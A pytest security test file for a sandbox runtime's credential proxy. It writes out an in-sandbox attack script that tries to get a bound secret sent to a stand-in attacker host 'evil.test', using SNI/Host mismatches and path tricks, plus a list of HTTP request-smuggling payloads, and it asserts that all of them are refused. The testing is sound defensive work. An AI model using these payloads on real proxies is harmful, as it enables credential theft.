"""Getting a credential out of the vault, as root inside a real sandbox of the embedded runtime: to another server than the
one it is bound to, or in a request that nobody judged. The policy allows both servers; evil.test is the attacker's, and
tells him whatever he is sent."""

import base64
import json
import os
import sys

import pytest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from egressnet import wait_for  # noqa: E402
from osbserver import Server  # noqa: E402
from secureworld import SecureWorld  # noqa: E402

SECRET = "s3cr3t-of-good"

# Runs inside: [address, name in the ClientHello or null, bytes in hex] each, all at once; what came back, in hex.
ATTACK = """
import json, socket, ssl, sys
from concurrent.futures import ThreadPoolExecutor
def attack(a):
    ip, name, raw = a
    got = b""
    try:
        s = socket.create_connection((ip, 443), timeout=30)
        ctx = ssl._create_unverified_context()
        s = ctx.wrap_socket(s, server_hostname=name)
        s.sendall(bytes.fromhex(raw))
        while data := s.recv(65536):
            got += data
    except OSError:
        pass
    return got.hex()
with ThreadPoolExecutor(32) as pool:
    print(json.dumps(list(pool.map(attack, json.load(open("/tmp/attacks"))))))
"""


class Victim:
    def __init__(self, server):
        self.server = server
        rules = [{"action": "allow", "target": t} for t in ("good.test", "evil.test")]
        self.id = server.create(networkPolicy={"defaultAction": "deny", "egress": rules}, credentialProxy={"enabled": True})["id"]
        e = server.ok("GET", f"/v1/sandboxes/{self.id}/endpoints/18080")
        r = server.session.post(f"http://{e['endpoint']}/credential-vault", headers=e["headers"], timeout=30, json={
            "credentials": [{"name": "c", "source": {"type": "inline", "value": SECRET}}],
            "bindings": [{"name": "b", "match": {"hosts": ["good.test"], "paths": ["/v1/*"]}, "auth": {"type": "bearer", "credential": "c"}}]})
        assert r.status_code == 201, r.text
        self.put("/tmp/attack.py", ATTACK)
        assert server.run(self.id, "id -u; getent ahosts good.test evil.test | wc -l")[0].split()[0] == "0"

    def put(self, path, text):
        code = base64.b64encode(text.encode()).decode()
        self.server.run(self.id, f"echo {code} | base64 -d > {path}")

    def attack(self, tries):
        """[(address, name, bytes)]: what came back of each."""
        self.put("/tmp/attacks", json.dumps([(ip, name, raw.hex()) for ip, name, raw in tries]))
        out, last = self.server.run(self.id, "/usr/bin/python3 /tmp/attack.py", timeout=120)
        assert last["type"] != "error", (out, last)
        return [bytes.fromhex(x) for x in json.loads(out.strip().split("\n")[-1])]

    def kinds(self):
        path = os.path.join(self.server.data, "oci", "sandboxes", self.id, "egress.log")
        with open(path) as f:
            return {json.loads(line)["kind"] for line in f if "egress.denied" in line and line.endswith("}\n")}


@pytest.fixture(scope="module")
def world():
    w = SecureWorld()
    yield w
    w.close()


@pytest.fixture(scope="module")
def victim(world):
    s = Server(f'[oci]\ndns = ["{world.dns}"]\n')
    s.env["OPENSANDBOX_EGRESS_MITMPROXY_UPSTREAM_TRUST_DIR"] = world.trust
    try:
        yield Victim(s.start())
    finally:
        s.close()


def get(host, path="/v1/x", more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode()


def test_names_that_do_not_agree(victim, world):
    good, evil = world.good, world.evil
    control, = victim.attack([(good, "good.test", get("good.test"))])
    assert SECRET.encode() in control  # good.test itself says what it was sent
    told = victim.attack([
        (evil, "evil.test", get("good.test")),  # the attacker's server, and the name of the other
        (evil, None, get("good.test")),
        (good, None, get("good.test")),  # no name in the ClientHello: nobody is verified
        (good, "evil.test", get("good.test")),
        (evil, "evil.test", get("good.test", "https://good.test/v1/x")),
        (evil, "evil.test", get("evil.test", more="X-Forwarded-Host: good.test\r\nAuthorization: Bearer placeholder\r\n")),
    ])
    assert all(b" 200 OK" in t for t in told), told  # they arrive: both may be reached
    refused = victim.attack([
        (evil, "good.test", get("good.test")),  # the right name at the attacker's address: his certificate is for another
        (evil, "GOOD.test", get("good.test")),
        *[(good, "good.test", get(h)) for h in ("evil.test", "good.test.evil.test", "good.test:8443", "good.test@evil.test", good)],
        (good, "good.test", get("good.test", "https://evil.test/v1/x")),
        *[(good, "good.test", get("good.test", p)) for p in ("/v1/../admin", "/v1/%2e%2e/admin", "/v1/a%2fb")],
    ])
    assert all(r.startswith((b"HTTP/1.1 4", b"HTTP/1.1 502 ")) and r.count(b"HTTP/1.1 ") == 1 for r in refused), refused
    assert not [t for t in told + refused if SECRET.encode() in t]
    wait_for("the log", lambda: {"upstream", "host_mismatch"} <= victim.kinds())


SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\nHost: good.test\r\n\r\n"
HEAD = b"POST /v1/x HTTP/1.1\r\nHost: good.test\r\n"
SMUGGLING = [
    HEAD + b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(SMUGGLED)) + SMUGGLED,
    HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + SMUGGLED,
    HEAD + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
    HEAD + b"Content-Length: +0\r\n\r\n" + SMUGGLED,
    HEAD + b"Content-Length : 0\r\n\r\n" + SMUGGLED,
    HEAD + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
    HEAD + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    HEAD + b"X: a\r\n Content-Length: 5\r\n\r\n" + SMUGGLED,
    HEAD + b"X: a\nContent-Length: 5\r\n\r\n" + SMUGGLED,
    HEAD.replace(b"\r\n", b"\n") + b"\n" + SMUGGLED,
    HEAD + b"Host: evil.test\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
    b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n" + SMUGGLED,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
]


def test_requests_hidden_in_others(victim, world):
    for raw, got in zip(SMUGGLING, victim.attack([(world.good, "good.test", raw) for raw in SMUGGLING])):
        assert got.startswith((b"HTTP/1.1 4", b"HTTP/1.1 5")) and got.count(b"HTTP/1.1 ") == 1, (raw, got)
        assert SECRET.encode() not in got and b"smuggled" not in got, (raw, got)
    # What looks like a request inside a body is a body; of two in a row each is judged.
    body = HEAD.replace(b"/v1/", b"/v2/") + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED
    chunk = HEAD.replace(b"/v1/", b"/v2/") + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n" + SMUGGLED
    row = get("good.test", "/v2/x").replace(b"Connection: close\r\n", b"") + get("evil.test", "/v1/x")
    in_body, broken, two = victim.attack([(world.good, "good.test", raw) for raw in (body, chunk, row)])
    assert in_body.count(b"HTTP/1.1 200 ") == 1 and SECRET.encode() not in in_body
    assert b"/v1/smuggled" not in broken.replace(SMUGGLED, b"") and SECRET.encode() not in broken
    assert b"HTTP/1.1 200 " in two and b"HTTP/1.1 421 " in two and SECRET.encode() not in two
